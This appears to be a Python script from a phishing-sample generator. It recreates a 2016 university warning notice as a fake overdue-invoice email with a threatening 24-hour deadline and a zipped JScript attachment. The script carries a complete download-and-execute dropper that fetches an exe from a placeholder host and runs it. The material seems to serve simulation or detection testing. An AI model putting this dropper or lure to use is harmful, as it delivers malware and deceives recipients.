"""English mass mail: dear local part, a number in subject and name, threats, a script in a zip.
Scenario: Tokyo Metropolitan University, notice of August 2016."""
from kit import *

JS = 'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://downloads.invalid/a.exe", false); x.send(); new ActiveXObject("WScript.Shell").Run("%TEMP%/a.exe");'


def make():
    z = Zip().add("invoice 83114.js", JS.encode()).bytes()
    return (Mail("Overdue invoice #83114", "office71@mail.example.br", name="Irma Reyes", to="j-yamada@example.ac.jp")
            .text("Dear j-yamada,\n\nAs discussed, the invoice is attached. Your account will be suspended unless it is paid within 24 hours.\n\nBest Regards,\nIrma Reyes\n")
            .attach("invoice_83114.zip", z, "application/zip").bytes())
